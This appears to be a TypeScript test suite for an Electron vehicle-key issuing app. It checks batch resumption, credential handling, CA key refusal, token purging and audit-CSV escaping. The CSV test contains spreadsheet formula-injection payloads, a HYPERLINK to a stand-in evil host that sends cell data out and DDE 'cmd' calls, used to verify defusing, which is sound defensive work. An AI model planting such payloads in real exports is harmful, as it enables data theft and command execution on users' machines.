/**
 * Guards found in review: things a technician or a compromised page could otherwise do by
 * mistake — renew keys nobody asked for, send credentials to another host, store a key in
 * clear, ask for a key longer than PSA allows, leave an erased token on disk, or put a
 * formula a spreadsheet would run into the audit CSV.
 */
import assert from 'node:assert/strict'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { test } from 'node:test'
import { AUDIT_COLUMNS, auditCsv } from '../../electron/core/audit'
import { dispatch } from '../../electron/app/ipc-dispatch'
import type { BatchProgress } from '../../shared/ipc/contract'
import { carDataJson, filesUnder, setupDepot, testHandlers, vinFor, vkey } from '../helpers/depot-env'
import { waitUntil } from '../helpers/wait'

const car = (n: number) => ({ source: `car-${n}.json`, index: 0, vin: vinFor(n), carData: 'AAAA', carDataSignature: 'BBBB' })

test('a batch the user cancelled is not resumed when the app starts again', async (t) => {
  const { dataDir, depot, simulator } = await setupDepot(t, { latencyMs: 150 })
  const added = await depot.addVehicles({ vehicles: [1, 2, 3, 4, 5, 6].map(car), issues: [] })
  const others = await depot.addVehicles({ vehicles: [21, 22].map(car), issues: [] })
  const duration = { kind: 'seconds', seconds: 3600 } as const
  const first = await testHandlers(t, dataDir)
  const { batchId } = await first['batch:start']({ handoverIds: added.map((r) => r.id), duration, concurrency: 1 })
  await waitUntil(() => simulator.stats.tokensIssued >= 1, "the batch's first key")
  assert.deepEqual(await first['batch:cancel']({ batchId }), { cancelled: true })
  // The yardstick: a second batch still running when the app quits is interrupted, not
  // cancelled, and the next start resumes it. When it has ended, the start-up resume is over.
  const interrupted = await first['batch:start']({ handoverIds: others.map((r) => r.id), duration, concurrency: 1 })
  await first.dispose()
  const issuedOf = async (ids: string[]) => (await (await depot.handovers()).list()).filter((r) => ids.includes(r.id) && r.status === 'issued').length
  const cancelledIssued = await issuedOf(added.map((r) => r.id))
  const left = others.length - (await issuedOf(others.map((r) => r.id)))
  const afterQuit = simulator.stats.requests

  let ended: BatchProgress | undefined
  await testHandlers(t, dataDir, {
    emit: (event, payload) => void (event === 'batch:progress' && !(payload as BatchProgress).running && (ended = payload as BatchProgress)),
  }) // the app starts again
  const resumed = await waitUntil(() => ended, 'the interrupted batch to be resumed and end')
  assert.equal(resumed.batchId, interrupted.batchId, 'the interrupted batch was resumed')
  assert.equal(resumed.done, others.length)
  assert.equal(simulator.stats.requests - afterQuit, left, "requests went only to the interrupted batch's vehicles still without a key")
  assert.equal(await issuedOf(added.map((r) => r.id)), cancelledIssued, 'no request was sent for the cancelled batch without the user asking')
})

test('a profile moved to another host keeps neither its password nor its CA without the password again', async (t) => {
  const { depot, simulator } = await setupDepot(t)
  await depot.partners.save({
    name: 'far',
    environment: 'https://here.example.com/connectedcar/v3',
    clientId: 'c',
    login: 'MZP000001',
    password: 'old-password',
    caPem: simulator.material.serverCa.certPem,
  })
  await assert.rejects(
    depot.partners.save({ name: 'far', environment: 'https://elsewhere.example.com/connectedcar/v3', clientId: 'c', login: 'MZP000001' }),
    (e: Error & { code?: string }) => e.code === 'config.profile' && /password again/.test(e.message),
  )
  const moved = await depot.partners.save({
    name: 'far',
    environment: 'https://elsewhere.example.com/connectedcar/v3',
    clientId: 'c',
    login: 'MZP000001',
    password: 'new-password',
  })
  assert.equal(moved.caPem, undefined, "the old host's CA is not kept")
})

test('a CA file that also holds a private key is refused, and only certificate blocks are stored', async (t) => {
  const { depot, simulator } = await setupDepot(t)
  const ca = simulator.material.serverCa
  await assert.rejects(
    depot.partners.setCa('sim', `${ca.certPem}\n${ca.keyPem}`),
    (e: Error & { code?: string }) => e.code === 'config.certificate-format' && /private key/.test(e.message),
  )
  const saved = await depot.partners.setCa('sim', `Bag Attributes: friendly\n${ca.certPem}`)
  assert.equal(saved.caPem?.trim(), ca.certPem.trim())
  const settings = await readFile(join(depot.dataDir, 'settings.json'), 'utf8')
  assert.doesNotMatch(settings, /PRIVATE KEY/)
})

test('a duration over 30 days, or a planned start without a time zone, is refused before anything is sent', async (t) => {
  const { depot, simulator } = await setupDepot(t)
  const [record] = await depot.addVehicles({ vehicles: [car(7)], issues: [] })
  await assert.rejects(
    depot.requestToken(record!.id, { kind: 'seconds', seconds: 365 * 86_400 }),
    (e: Error & { code?: string }) => e.code === 'input.duration',
  )
  await assert.rejects(
    depot.requestToken(record!.id, { kind: 'plan', start: '2099-01-01T10:00:00', seconds: 3600 }),
    (e: Error & { code?: string }) => e.code === 'input.duration' && /time zone/.test(e.message),
  )
  assert.equal(simulator.stats.requests, 0)
})

test('a key stays in the ledger (removal refused); once expired, its sealed token leaves the files', async (t) => {
  const { dataDir, depot } = await setupDepot(t)
  const [record] = await depot.addVehicles({ vehicles: [car(8)], issues: [] })
  const { record: issued } = await depot.requestToken(record!.id, { kind: 'seconds', seconds: 3600 })
  const handlers = await testHandlers(t, dataDir)
  await assert.rejects(handlers['handovers:remove']({ id: record!.id }), /stays in the ledger/)
  const [draft] = await depot.addVehicles({ vehicles: [car(9)], issues: [] })
  assert.deepEqual(await handlers['handovers:remove']({ id: draft!.id }), { removed: true }, 'a vehicle that never got a key can go')
  const later = await testHandlers(t, dataDir, { now: () => new Date(Date.now() + 2 * 3600_000) })
  assert.equal((await (await later.depot.handovers()).get(record!.id)).status, 'expired')
  for (const file of await filesUnder(dataDir)) {
    assert.ok(!file.bytes.includes(Buffer.from(issued.sealedToken!)), `${file.path} no longer holds the sealed token`)
  }
})

test('a queued request that can no longer be sent becomes failed with the real reason', async (t) => {
  const { env, dataDir, simulator } = await setupDepot(t, { restartable: true })
  const file = join(dataDir, '..', 'car.json')
  await writeFile(file, carDataJson(vinFor(9)))
  const port = simulator.port
  await simulator.close()
  assert.equal((await vkey(['token', '--cardata', file, '--until', new Date(Date.now() + 60_000).toISOString()], env)).code, 6)
  // Two minutes later (the depot's clock moved), the planned end has passed.
  const handlers = await testHandlers(t, dataDir, { now: () => new Date(Date.now() + 120_000) })
  const back = await (await import('../../electron/core/simulator')).startSimulator({ dir: simulator.material.dir, port })
  t.after(() => back.close())
  const result = await dispatch(handlers, 'queue:flush', undefined)
  assert.deepEqual(result, { ok: true, value: { sent: 0, stillQueued: 0, heldForRoom: 0 } })
  const [record] = (await handlers['handovers:list'](undefined)).handovers
  assert.equal(record?.status, 'failed')
  assert.equal(record?.error?.code, 'input.duration')
  assert.equal(back.requests.length, 0)
})

test('the CLI names a folder that does not exist instead of an internal error', async (t) => {
  const { env } = await setupDepot(t)
  const result = await vkey(['audit', '--csv', '/nonexistent-folder/audit.csv'], env)
  assert.equal(result.code, 2)
  assert.match(result.stderr, /\/nonexistent-folder\/.*(the folder does not exist|does not exist)/)
  assert.match(result.stderr, /--csv/, 'the option is named')
  assert.doesNotMatch(result.stderr, /vkd-tmp/, 'no internal temp file name')
})

/** RFC 4180 CSV (quoted cells, "" for a quote, CRLF between rows), as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"'
      i += 1
    } else if (c === '"') {
      quoted = !quoted
    } else if (!quoted && c === ',') {
      row.push(cell)
      cell = ''
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell])
      row = []
      cell = ''
      i += 1
    } else {
      cell += c
    }
  }
  assert.equal(`${cell}${row.join('')}`, '', 'the CSV ends with CRLF')
  return rows
}

/** A cell a spreadsheet would run as a formula (or a DDE call): =, +, -, @, tab or CR first. */
const FORMULA = /^[=+\-@\t\r]/

test('the audit CSV defuses spreadsheet formulas: labels, technicians, profiles and notes starting with =, +, - or @ are written as text', async (t) => {
  const { env, dataDir, depot, simulator } = await setupDepot(t)
  const labels = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', '+SUM(1,2)', "-2+3*cmd|' /C calc'!A0", '@SUM(A1:A9)']
  const files = await Promise.all(
    labels.map(async (label, i) => {
      const path = join(dataDir, '..', `formula-${i}.json`)
      await writeFile(path, carDataJson(vinFor(60 + i), { label }))
      return path
    }),
  )
  simulator.faults.statuses.push(200, 403) // one key refused: the refusal has its own row, with the label
  const batch = await vkey(['batch', ...files, '--duration', '1h', '--concurrency', '1', '--json'], env)
  assert.equal(batch.code, 4, batch.stderr)
  const out = join(dataDir, '..', 'audit.csv')
  const audit = await vkey(['audit', '--csv', out], env)
  assert.equal(audit.code, 0, audit.stderr)
  const [header, ...rows] = parseCsv(await readFile(out, 'utf8'))
  assert.deepEqual(header, [...AUDIT_COLUMNS])
  const column = (name: (typeof AUDIT_COLUMNS)[number]) => AUDIT_COLUMNS.indexOf(name)
  assert.equal(rows.length, 4, 'three keys and one refusal')
  assert.deepEqual(
    new Set(rows.map((row) => row[column('label')])),
    new Set(labels.map((label) => `'${label}`)),
    'each label is kept whole, after a quote that makes it text',
  )
  assert.ok(rows.some((row) => row[column('outcome')] === 'refused' && labels.includes(row[column('label')]!.slice(1))))
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a cell a spreadsheet would run: ${cell}`)

  // Who and which profile come from this computer (its user name) and the settings: the same
  // export with hostile values there, and in an error message, is defused the same way.
  const store = await depot.handovers()
  const hostile = auditCsv(
    (await store.list()).map((r) => ({ ...r, technician: "=cmd|' /C calc'!A0", profile: '@profile' })),
    store.events().map((e) => ({ ...e, technician: '+technician', error: { ...e.error, message: '-PSA said =1+1' } })),
  )
  const [, ...hostileRows] = parseCsv(hostile)
  assert.equal(hostileRows.length, 4)
  for (const row of hostileRows) {
    assert.match(row[column('technician')]!, /^'(=cmd\|' \/C calc'!A0|\+technician)$/)
    assert.equal(row[column('profile')], row[column('outcome')] === 'refused' ? 'sim' : "'@profile")
    for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a cell a spreadsheet would run: ${cell}`)
  }
  assert.ok(hostileRows.some((row) => row[column('note')] === "'-PSA said =1+1"))
})
